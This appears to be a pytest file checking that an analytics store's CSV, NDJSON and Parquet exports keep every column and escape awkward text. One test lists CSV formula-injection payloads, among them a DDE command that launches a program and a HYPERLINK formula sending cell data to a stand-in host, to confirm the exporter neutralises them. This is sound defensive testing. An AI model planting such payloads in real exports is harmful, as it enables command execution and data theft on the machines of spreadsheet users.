"""An export hands everything out, under the event's own names."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from tests.store.rows import Log

from analytics.errors import StoreUnavailable
from analytics.store.base import ExportFormat
from analytics.store.duckdb import DuckDBStore
from analytics.store.duckdb.export import COLUMNS
from analytics.testing.builders import NOON, SITE, hit


@pytest.fixture(autouse=True)
async def _written(store: DuckDBStore) -> None:
    hits = [
        hit(NOON - 1),
        hit(NOON, name="signup", props={"plan": 'p"ro,\n'}, revenue="1.25", currency="EUR"),
        hit(NOON + 1, bot="crawler", visitor=2**64 - 1, path="/a,b"),
        hit(NOON + 1, name="engagement", scroll_depth=40, engaged_ms=1234),
        hit(NOON + 2),
        hit(NOON, site="other.example"),
    ]
    await store.write(Log().batch(hits))


async def test_lines_of_json_hold_every_event_of_the_span(
    store: DuckDBStore, tmp_path: Path
) -> None:
    path = tmp_path / "out's.ndjson"
    told: list[float] = []
    count = await store.export(SITE, NOON, NOON + 2, ExportFormat.NDJSON, path, told.append)
    rows = [json.loads(line) for line in path.read_text("utf-8").splitlines()]
    assert count == len(rows) == 3
    assert [tuple(row) for row in rows] == [COLUMNS] * 3
    assert COLUMNS[0] == "event_id"
    assert COLUMNS[-1] == "bot"
    signup, machine, ping = rows
    assert signup["ts"] == "2026-11-24T12:00:00.000Z"
    assert signup["props"] == {"plan": 'p"ro,\n'}
    assert (signup["revenue"], signup["currency"], signup["bot"]) == (1.25, "EUR", None)
    assert (machine["bot"], machine["visitor"]) == ("crawler", 2**64 - 1)
    assert (ping["name"], ping["scroll_depth"], ping["engaged_ms"]) == ("engagement", 40, 1234)
    assert told[-1] == 1.0


async def test_a_table_reads_back_with_its_odd_texts(store: DuckDBStore, tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    await store.export(SITE, NOON, NOON + 2, ExportFormat.CSV, path)
    with path.open(newline="", encoding="utf-8") as file:
        rows = list(csv.DictReader(file))
    assert json.loads(rows[0]["props"]) == {"plan": 'p"ro,\n'}
    assert rows[1]["path"] == "/a,b"


FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
    '=HYPERLINK("https://e.example/?"&A1;"x")',
    "=cmd|' /C calc'!A0",
]
HARMLESS = ["-5", "+49", "-1.25", "a=1", "/path", "a;=1+1", 'say "=1"', "", "ünïcode"]


async def test_no_text_of_a_table_is_a_formula_to_a_spreadsheet(
    store: DuckDBStore, tmp_path: Path
) -> None:
    texts = [*FORMULAS, *HARMLESS]
    hits = [
        hit(NOON + 10 + n, title=text, utm_campaign=text, name=text or "n", revenue="-1.5")
        for n, text in enumerate(texts)
    ]
    log = Log()
    log.offset = 6
    await store.write(log.batch(hits))
    path = tmp_path / "out.csv"
    await store.export(SITE, NOON + 10, NOON + 1000, ExportFormat.CSV, path)
    with path.open(newline="", encoding="utf-8") as file:
        rows = list(csv.DictReader(file))
    for row, text in zip(rows, texts, strict=True):
        kept = "'" + text if text in FORMULAS else text
        assert (row["title"], row["utm_campaign"], row["name"]) == (kept, kept, kept or "n")
        assert (row["revenue"], row["engaged_ms"]) == ("-1.500", "0")
    # Where the separator is another one, a spreadsheet still begins no cell within a text.
    assert '"a;=1+1"' in path.read_text("utf-8")
    await store.export(SITE, NOON + 10, NOON + 1000, ExportFormat.NDJSON, path)
    lines = path.read_text("utf-8").splitlines()
    assert [json.loads(line)["title"] for line in lines] == texts


async def test_a_parquet_file_has_the_columns(store: DuckDBStore, tmp_path: Path) -> None:
    path = tmp_path / "out.parquet"
    assert await store.export(SITE, 0, NOON + 99, ExportFormat.PARQUET, path) == 5
    found = await store._threads.read(
        lambda connection: connection.rows("SELECT name FROM parquet_schema(?)", [str(path)])
    )
    assert {name for (name,) in found} >= set(COLUMNS)


async def test_what_cannot_be_written_leaves_nothing(store: DuckDBStore, tmp_path: Path) -> None:
    with pytest.raises(StoreUnavailable):
        await store.export(SITE, 0, NOON, ExportFormat.CSV, tmp_path / "none" / "out.csv")
    assert not (tmp_path / "none").exists()
